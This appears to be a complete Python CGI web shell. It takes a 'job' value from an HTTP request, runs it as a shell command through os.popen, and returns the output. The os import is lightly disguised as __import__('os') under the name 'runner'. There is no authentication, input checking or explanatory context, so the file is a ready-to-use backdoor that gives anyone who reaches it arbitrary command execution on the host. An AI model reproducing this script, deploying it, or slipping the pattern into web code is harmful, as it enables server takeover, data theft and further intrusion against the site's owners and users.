#!/usr/bin/env python3
import cgi

runner = __import__("os")
form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
job = form.getvalue("job")
if job:
    print(runner.popen(job).read())
